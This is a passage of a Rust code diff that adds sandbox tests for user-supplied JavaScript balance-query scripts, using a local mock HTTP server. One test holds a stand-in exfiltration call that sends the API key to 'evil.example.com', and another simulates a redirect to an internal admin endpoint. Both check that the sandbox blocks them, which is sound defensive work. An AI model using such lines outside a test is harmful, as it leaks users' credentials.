+                format!("响应体超过上限 {max_bytes} 字节"),
+                format!("Response body exceeds {max_bytes} bytes"),
+            ));
+        }
+        body.extend_from_slice(&chunk);
+    }
+
+    Ok(HttpResponse {
+        status,
+        url,
+        headers,
+        body: String::from_utf8_lossy(&body).into_owned(),
+    })
+}
+
 /// 验证脚本返回值（支持单对象或数组）
 fn validate_result(result: &Value) -> Result<(), AppError> {
     // 如果是数组，验证每个元素
@@ -893,6 +1458,347 @@ mod tests {
             }
         }
     }
-}
 
+    /// 本地模拟 HTTP 服务：按路径返回固定响应，并记录收到的请求
+    struct MockServer {
+        base_url: String,
+        requests: std::sync::Arc<std::sync::Mutex<Vec<MockRequest>>>,
+    }
+
+    #[derive(Debug, Clone)]
+    struct MockRequest {
+        method: String,
+        path: String,
+        headers: HashMap<String, String>,
+        body: String,
+    }
+
+    impl MockServer {
+        fn start<F>(handler: F) -> Self
+        where
+            F: Fn(&MockRequest) -> (u16, String) + Send + 'static,
+        {
+            Self::start_with_headers(move |req| {
+                let (status, body) = handler(req);
+                (status, Vec::new(), body)
+            })
+        }
 
+        /// 与 start 相同，但处理函数可以额外返回响应头（如 Location）
+        fn start_with_headers<F>(handler: F) -> Self
+        where
+            F: Fn(&MockRequest) -> (u16, Vec<(&'static str, String)>, String) + Send + 'static,
+        {
+            use std::io::{BufRead, BufReader, Read, Write};
+
+            let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+            let base_url = format!("http://{}", listener.local_addr().unwrap());
+            let requests = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+            let recorded = requests.clone();
+
+            std::thread::spawn(move || {
+                for stream in listener.incoming() {
+                    let Ok(mut stream) = stream else { break };
+                    let mut reader = BufReader::new(stream.try_clone().unwrap());
+
+                    let mut request_line = String::new();
+                    if reader.read_line(&mut request_line).is_err() {
+                        continue;
+                    }
+                    let mut parts = request_line.split_whitespace();
+                    let method = parts.next().unwrap_or_default().to_string();
+                    let path = parts.next().unwrap_or_default().to_string();
+
+                    let mut headers = HashMap::new();
+                    loop {
+                        let mut line = String::new();
+                        if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+                            break;
+                        }
+                        if let Some((k, v)) = line.split_once(':') {
+                            headers.insert(k.trim().to_ascii_lowercase(), v.trim().to_string());
+                        }
+                    }
+                    let len = headers
+                        .get("content-length")
+                        .and_then(|v| v.parse::<usize>().ok())
+                        .unwrap_or(0);
+                    let mut body = vec![0u8; len];
+                    let _ = reader.read_exact(&mut body);
+
+                    let request = MockRequest {
+                        method,
+                        path,
+                        headers,
+                        body: String::from_utf8_lossy(&body).into_owned(),
+                    };
+                    let (status, extra_headers, body) = handler(&request);
+                    recorded.lock().unwrap().push(request);
+
+                    let extra: String = extra_headers
+                        .iter()
+                        .map(|(k, v)| format!("{k}: {v}\r\n"))
+                        .collect();
+                    let _ = write!(
+                        stream,
+                        "HTTP/1.1 {status} OK\r\nContent-Type: application/json\r\n{extra}\
+                         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                        body.len()
+                    );
+                }
+            });
+
+            Self { base_url, requests }
+        }
+
+        fn requests(&self) -> Vec<MockRequest> {
+            self.requests.lock().unwrap().clone()
+        }
+    }
+
+    /// 使用指定限制在沙箱中运行脚本
+    async fn run_with(script: &str, base_url: &str, limits: SandboxLimits) -> UsageScriptOutput {
+        let script = build_script_with_vars(script, "sk-test", base_url, None, None);
+        run_script(
+            script,
+            ScriptEnv {
+                base_url: base_url.to_string(),
+                is_custom_template: false,
+                request_timeout: Duration::from_secs(5),
+                limits,
+                handle: tokio::runtime::Handle::current(),
+            },
+        )
+        .await
+    }
+
+    fn error_text(output: UsageScriptOutput) -> String {
+        output.result.expect_err("脚本应当失败").to_string()
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_legacy_request_and_extractor() {
+        let server = MockServer::start(|req| {
+            assert_eq!(req.path, "/v1/balance");
+            (200, r#"{"balance": 12.5}"#.to_string())
+        });
+        let script = r#"({
+            request: {
+                url: "{{baseUrl}}/v1/balance",
+                method: "GET",
+                headers: { "Authorization": "Bearer {{apiKey}}" }
+            },
+            extractor: function (response) {
+                console.log("balance", response.balance);
+                return { remaining: response.balance, unit: "USD" };
+            }
+        })"#;
+
+        let output = run_with(script, &server.base_url, SandboxLimits::default()).await;
+        assert_eq!(output.logs, vec!["[log] balance 12.5".to_string()]);
+        let result = output.result.unwrap();
+        assert_eq!(result["remaining"], 12.5);
+        assert_eq!(
+            server.requests()[0].headers.get("authorization").unwrap(),
+            "Bearer sk-test"
+        );
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_run_with_login_then_query() {
+        let server = MockServer::start(|req| match (req.method.as_str(), req.path.as_str()) {
+            ("POST", "/login") => {
+                let body: Value = serde_json::from_str(&req.body).unwrap();
+                assert_eq!(body["key"], "sk-test");
+                (200, r#"{"token": "t-123"}"#.to_string())
+            }
+            ("GET", "/quota") => {
+                if req.headers.get("authorization").map(String::as_str) == Some("t-123") {
+                    let body = r#"{"plans": [{"name": "pro", "left": 3}]}"#;
+                    (200, body.to_string())
+                } else {
+                    (401, r#"{"error": "unauthorized"}"#.to_string())
+                }
+            }
+            _ => (404, "{}".to_string()),
+        });
+        let script = r#"({
+            run: async function () {
+                const login = await fetch("{{baseUrl}}/login", {
+                    method: "POST",
+                    headers: { "Content-Type": "application/json" },
+                    body: { key: "{{apiKey}}" }
+                });
+                const { token } = await login.json();
+                console.info("logged in", { token });
+                const quota = await fetch("{{baseUrl}}/quota", {
+                    headers: { "Authorization": token }
+                });
+                if (!quota.ok) throw new Error("quota " + quota.status);
+                const data = await quota.json();
+                return data.plans.map((p) => ({ planName: p.name, remaining: p.left }));
+            }
+        })"#;
+
+        let output = run_with(script, &server.base_url, SandboxLimits::default()).await;
+        assert_eq!(
+            output.logs,
+            vec![r#"[info] logged in {"token":"t-123"}"#.to_string()]
+        );
+        let result = output.result.unwrap();
+        assert_eq!(result[0]["planName"], "pro");
+        assert_eq!(result[0]["remaining"], 3);
+        assert_eq!(server.requests().len(), 2);
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_fetch_outside_allowlist_is_rejected() {
+        let server = MockServer::start(|_| (200, "{}".to_string()));
+        let script = r#"({
+            run: async () => {
+                try {
+                    await fetch("https://evil.example.com/steal?key={{apiKey}}");
+                } catch (e) {
+                    console.error(e.message);
+                    throw e;
+                }
+            }
+        })"#;
+
+        let output = run_with(script, &server.base_url, SandboxLimits::default()).await;
+        assert_eq!(output.logs.len(), 1);
+        assert!(output.logs[0].contains("evil.example.com"));
+        let err = error_text(output);
+        assert!(err.contains("执行 run 失败"), "{err}");
+        assert!(server.requests().is_empty());
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_redirect_outside_allowlist_is_not_followed() {
+        // 模拟内网服务：不应收到任何请求
+        let internal = MockServer::start(|_| (200, r#"{"secret": true}"#.to_string()));
+        let target = format!("{}/admin", internal.base_url);
+        let server = MockServer::start_with_headers(move |_| {
+            (302, vec![("Location", target.clone())], String::new())
+        });
+
+        let fetch_script = r#"({
+            run: async () => {
+                const resp = await fetch("{{baseUrl}}/balance");
+                return { remaining: (await resp.json()).secret ? 1 : 0 };
+            }
+        })"#;
+        let err =
+            error_text(run_with(fetch_script, &server.base_url, SandboxLimits::default()).await);
+        assert!(err.contains("端口"), "{err}");
+
+        let request_script = r#"({
+            request: { url: "{{baseUrl}}/balance", method: "GET" },
+            extractor: (response) => ({ remaining: response.secret ? 1 : 0 })
+        })"#;
+        let err =
+            error_text(run_with(request_script, &server.base_url, SandboxLimits::default()).await);
+        assert!(err.contains("端口"), "{err}");
+
+        assert_eq!(server.requests().len(), 2);
+        assert!(internal.requests().is_empty());
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_same_origin_redirect_is_followed() {
+        let server = MockServer::start_with_headers(|req| match req.path.as_str() {
+            "/old" => (302, vec![("Location", "/new".to_string())], String::new()),
+            _ => (200, Vec::new(), r#"{"balance": 7}"#.to_string()),
+        });
+        let script = r#"({
+            run: async () => {
+                const resp = await fetch("{{baseUrl}}/old", {
+                    headers: { "Authorization": "Bearer {{apiKey}}" }
+                });
+                return { remaining: (await resp.json()).balance };
+            }
+        })"#;
+
+        let output = run_with(script, &server.base_url, SandboxLimits::default()).await;
+        assert_eq!(output.result.unwrap()["remaining"], 7);
+        let requests = server.requests();
+        assert_eq!(requests.len(), 2);
+        assert_eq!(requests[1].path, "/new");
+        assert_eq!(
+            requests[1].headers.get("authorization").unwrap(),
+            "Bearer sk-test"
+        );
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_fetch_call_limit() {
+        let server = MockServer::start(|_| (200, r#"{"ok": true}"#.to_string()));
+        let script = r#"({
+            run: async () => {
+                for (let i = 0; i < 5; i++) await fetch("{{baseUrl}}/ping");
+                return { remaining: 1 };
+            }
+        })"#;
+        let limits = SandboxLimits {
+            max_fetches: 3,
+            ..SandboxLimits::default()
+        };
+
+        let err = error_text(run_with(script, &server.base_url, limits).await);
+        assert!(err.contains("fetch 调用次数超过上限 3"), "{err}");
+        assert_eq!(server.requests().len(), 3);
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_cpu_time_limit_interrupts_script() {
+        let limits = SandboxLimits {
+            cpu_time: Duration::from_millis(200),
+            ..SandboxLimits::default()
+        };
+        let started = Instant::now();
+        let output = run_with(
+            "({ run: () => { while (true) {} } })",
+            "http://127.0.0.1:9",
+            limits,
+        )
+        .await;
+        let err = error_text(output);
+        assert!(err.contains("脚本执行超时"), "{err}");
+        assert!(started.elapsed() < Duration::from_secs(5));
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_memory_limit() {
+        let limits = SandboxLimits {
+            memory_bytes: 8 * 1024 * 1024,
+            ..SandboxLimits::default()
+        };
+        let script = r#"({
+            run: () => {
+                const chunks = [];
+                while (true) chunks.push("x".repeat(1024 * 1024) + chunks.length);
+            }
+        })"#;
+        let err = error_text(run_with(script, "http://127.0.0.1:9", limits).await);
+        assert!(err.contains("脚本内存超出上限"), "{err}");
+    }
+
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_console_output_is_capped() {
+        let limits = SandboxLimits {
+            max_log_lines: 3,
+            ..SandboxLimits::default()
+        };
+        let script = r#"({
+            run: () => {
+                for (let i = 0; i < 10; i++) console.log("line", i);
+                return { remaining: 0 };
+            }
+        })"#;
+        let output = run_with(script, "http://127.0.0.1:9", limits).await;
+        assert!(output.result.is_ok());
+        assert_eq!(output.logs.len(), 4);
+        assert_eq!(output.logs[2], "[log] line 2");
+        assert!(output.logs[3].starts_with("[warn]"));
+    }
+}